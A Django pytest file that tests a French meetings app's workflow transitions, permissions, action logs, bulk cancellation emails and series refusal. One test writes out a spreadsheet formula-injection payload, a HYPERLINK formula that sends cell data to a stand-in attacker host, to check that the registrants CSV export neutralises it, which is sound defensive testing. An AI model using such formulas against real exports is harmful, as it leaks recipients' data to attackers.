"""The transition tables: what they offer, what the services check, what they log."""

import pytest
from django.contrib.auth.models import AnonymousUser
from django.core import mail
from django.core.exceptions import PermissionDenied, ValidationError
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from quartiers40.core.models import ActionLog
from quartiers40.meetings import services
from quartiers40.meetings.enums import (
    ACTION_ITEM_WORKFLOW,
    EDITION_WORKFLOW,
    PITCH_WORKFLOW,
    REGISTRATION_WORKFLOW,
    SERIES_WORKFLOW,
    ActionItemStatus,
    EditionStatus,
    RegistrationStatus,
)
from quartiers40.meetings.models import Registration
from tests.members.factories import UserFactory

from .factories import ActionItemFactory, EditionFactory, RegistrationFactory

pytestmark = pytest.mark.django_db


def organiser_of(edition):
    organiser = UserFactory()
    edition.organisers.add(organiser)
    return organiser


def test_the_log_names_are_those_used_before_the_tables():
    assert SERIES_WORKFLOW.log_names() == {"series_approved", "series_refused"}
    assert EDITION_WORKFLOW.log_names() == {"edition_published", "edition_cancelled"}
    assert REGISTRATION_WORKFLOW.log_names() == {
        "registration_email_confirmed",
        "registration_offered",
        "registration_offer_accepted",
        "registration_offer_expired",
        "registration_cancelled",
        "registration_checked_in",
        "registration_check_in_undone",
    }
    assert PITCH_WORKFLOW.log_names() == {"pitch_accepted", "pitch_declined"}
    assert ACTION_ITEM_WORKFLOW.log_names() == {"action_item_status_changed"}


def test_edition_offers_publish_then_cancel_to_its_organisers_only():
    edition = EditionFactory(status=EditionStatus.DRAFT)
    organiser = organiser_of(edition)
    assert EDITION_WORKFLOW.allowed(edition, organiser) == {"publish", "cancel"}
    assert EDITION_WORKFLOW.allowed(edition, UserFactory()) == set()
    assert EDITION_WORKFLOW.allowed(edition, AnonymousUser()) == set()
    services.edition_publish(edition=edition, actor=organiser)
    assert EDITION_WORKFLOW.allowed(edition, organiser) == {"cancel"}
    services.edition_cancel(edition=edition, actor=organiser, reason="Salle indisponible")
    assert EDITION_WORKFLOW.allowed(edition, organiser) == set()
    with pytest.raises(ValidationError) as error:
        services.edition_cancel(edition=edition, actor=organiser, reason="Encore")
    assert error.value.messages == ["Cette rencontre est déjà annulée."]
    with pytest.raises(ValidationError) as error:
        services.edition_publish(edition=edition, actor=organiser)
    assert error.value.messages == ["Seul un brouillon peut être publié."]
    log = ActionLog.objects.get(action="edition_cancelled")
    assert (log.from_status, log.to_status) == ("published", "cancelled")


def test_the_organiser_page_offers_what_the_table_allows(client):
    edition = EditionFactory(status=EditionStatus.DRAFT)
    client.force_login(organiser_of(edition))
    url = reverse("meetings:organiser_home", args=[edition.slug])
    page = client.get(url).content.decode()
    assert reverse("meetings:edition_publish", args=[edition.slug]) in page
    assert reverse("meetings:edition_cancel", args=[edition.slug]) in page
    edition.status = EditionStatus.CANCELLED
    edition.save()
    page = client.get(url).content.decode()
    assert reverse("meetings:edition_publish", args=[edition.slug]) not in page
    assert reverse("meetings:edition_cancel", args=[edition.slug]) not in page


def test_a_signed_in_cancel_needs_the_person_or_an_organiser():
    edition = EditionFactory()
    person = UserFactory()
    registration = services.registration_create(edition=edition, actor=person)
    with pytest.raises(PermissionDenied):
        services.registration_cancel(registration=registration, actor=UserFactory())
    services.registration_cancel(registration=registration, actor=person)
    assert registration.status == RegistrationStatus.CANCELLED
    log = ActionLog.objects.get(action="registration_cancelled")
    assert log.actor == person


def test_the_email_link_cancels_without_an_account():
    edition = EditionFactory()
    registration = services.registration_create_for_guest(
        edition=edition, name="Lina", email="lina@exemple.fr"
    )
    assert REGISTRATION_WORKFLOW.allowed(registration, AnonymousUser()) >= {
        "confirm_email",
        "cancel_from_link",
    }
    assert "cancel" not in REGISTRATION_WORKFLOW.allowed(registration, AnonymousUser())
    services.registration_cancel_from_link(registration=registration, actor=AnonymousUser())
    assert registration.status == RegistrationStatus.CANCELLED
    assert ActionLog.objects.get(action="registration_cancelled").actor is None
    with pytest.raises(ValidationError) as error:
        services.registration_cancel_from_link(registration=registration)
    assert error.value.messages == ["Cette inscription n'est plus active."]


def test_registering_oneself_needs_an_account():
    with pytest.raises(PermissionDenied):
        services.registration_create(edition=EditionFactory(), actor=AnonymousUser())


def test_check_in_is_a_transition_of_confirmed_registrations_only():
    edition = EditionFactory(onsite_capacity=1)
    organiser = organiser_of(edition)
    confirmed = services.registration_create(edition=edition, actor=UserFactory())
    waiting = services.registration_create(edition=edition, actor=UserFactory())
    assert {"check_in", "undo_check_in"} <= REGISTRATION_WORKFLOW.allowed(confirmed, organiser)
    assert not REGISTRATION_WORKFLOW.can(waiting, "check_in", organiser)
    with pytest.raises(ValidationError) as error:
        services.registration_check_in(registration=waiting, actor=organiser)
    assert error.value.messages == ["Seules les inscriptions confirmées sont pointées."]
    with pytest.raises(PermissionDenied):
        services.registration_check_in(registration=confirmed, actor=UserFactory())
    services.registration_check_in(registration=confirmed, actor=organiser)
    assert confirmed.checked_in_at is not None
    assert ActionLog.objects.filter(action="registration_checked_in").count() == 1


@pytest.mark.parametrize(
    ("start", "allowed"),
    [
        (ActionItemStatus.OPEN, {"start", "finish", "drop"}),
        (ActionItemStatus.IN_PROGRESS, {"reopen", "finish", "drop"}),
        (ActionItemStatus.DONE, {"start"}),
        (ActionItemStatus.DROPPED, {"reopen"}),
    ],
)
def test_action_items_move_as_before(start, allowed):
    item = ActionItemFactory(status=start)
    organiser = organiser_of(item.edition)
    assert ACTION_ITEM_WORKFLOW.allowed(item, organiser) == allowed
    assert ACTION_ITEM_WORKFLOW.allowed(item, UserFactory()) == set()


def test_an_impossible_action_status_is_said_on_the_status_field():
    item = ActionItemFactory(status=ActionItemStatus.DROPPED)
    organiser = organiser_of(item.edition)
    with pytest.raises(ValidationError) as error:
        services.action_item_set_status(item=item, actor=organiser, status="done")
    assert error.value.message_dict == {"status": ["Ce changement de statut n'est pas possible."]}


def _registrants(edition, count):
    Registration.objects.bulk_create(
        Registration(
            edition=edition,
            name=f"Personne {index}",
            email=f"personne{index}@exemple.fr",
            status=RegistrationStatus.CONFIRMED if index % 2 else RegistrationStatus.WAITING,
            sequence=index + 1,
        )
        for index in range(count)
    )


def _cancel_through_the_page(client, edition, django_capture_on_commit_callbacks):
    client.force_login(organiser_of(edition))
    url = reverse("meetings:edition_cancel", args=[edition.slug])
    with (
        django_capture_on_commit_callbacks() as callbacks,
        CaptureQueriesContext(connection) as queries,
    ):
        client.post(url, {"reason": "Grève des transports"})
    return callbacks, len(queries)


def test_cancelling_for_200_people_takes_the_same_requests_as_for_2(
    client, django_capture_on_commit_callbacks
):
    small, large = EditionFactory(onsite_capacity=None), EditionFactory(onsite_capacity=None)
    _registrants(small, 2)
    _registrants(large, 200)
    RegistrationFactory(edition=large, status=RegistrationStatus.CANCELLED, sequence=999)
    mail.outbox.clear()
    # A first cancellation fills the per-process caches (content types, the session).
    _cancel_through_the_page(client, EditionFactory(), django_capture_on_commit_callbacks)
    _callbacks, small_queries = _cancel_through_the_page(
        client, small, django_capture_on_commit_callbacks
    )
    callbacks, large_queries = _cancel_through_the_page(
        client, large, django_capture_on_commit_callbacks
    )
    assert large_queries == small_queries
    # Nothing is sent in the request: one task, queued once the cancellation commits
    # (besides the public page cache's version bump).
    callbacks = [call for call in callbacks if "cache_version_bump" not in call.__qualname__]
    assert len(callbacks) == 1
    assert mail.outbox == []
    with django_capture_on_commit_callbacks(execute=True):
        callbacks[0]()  # the immediate backend runs the task, as the worker would
    assert len(mail.outbox) == 200
    assert all(len(message.to) == 1 for message in mail.outbox)
    assert {message.to[0] for message in mail.outbox} == {
        f"personne{index}@exemple.fr" for index in range(200)
    }
    first = next(m for m in mail.outbox if m.to == ["personne7@exemple.fr"])
    assert "Grève des transports" in first.body
    assert large.title in first.subject


def test_the_registrants_export_neutralises_formulas(client):
    edition = EditionFactory()
    Registration.objects.create(
        edition=edition,
        name='=HYPERLINK("https://pirate.example/?d="&A1;"Cliquez")',
        email="victime@exemple.fr",
        dietary_notes="@SUM(1+1)",
        status=RegistrationStatus.CONFIRMED,
        sequence=1,
    )
    client.force_login(organiser_of(edition))
    response = client.get(reverse("meetings:registrants_csv", args=[edition.slug]))
    body = response.content.decode("utf-8-sig")
    row = body.splitlines()[1]
    assert row.startswith("\"'=HYPERLINK(")
    assert "'@SUM(1+1)" in row
    assert ",=HYPERLINK" not in body and '"=HYPERLINK' not in body


def test_the_coordination_refuses_a_series_with_a_reason_at_its_own_address(client):
    from quartiers40.meetings.enums import SeriesStatus
    from tests.members.factories import CoordinatorFactory

    from .factories import LocalSeriesFactory

    series = LocalSeriesFactory(status=SeriesStatus.PENDING)
    client.force_login(CoordinatorFactory())
    page = client.get(reverse("meetings:series_queue")).content.decode()
    assert reverse("meetings:series_refuse", args=[series.slug]) in page
    url = reverse("meetings:series_refuse", args=[series.slug])
    response = client.post(url, {"reason": ""}, follow=True)
    assert "Expliquez la raison du refus." in response.content.decode()
    client.post(url, {"reason": "Hors du collectif"})
    series.refresh_from_db()
    assert (series.status, series.decision_reason) == (SeriesStatus.REFUSED, "Hors du collectif")
    response = client.post(reverse("meetings:series_approve", args=[series.slug]), follow=True)
    assert "Cette série a déjà été examinée." in response.content.decode()
    assert ActionLog.objects.filter(action="series_refused").count() == 1
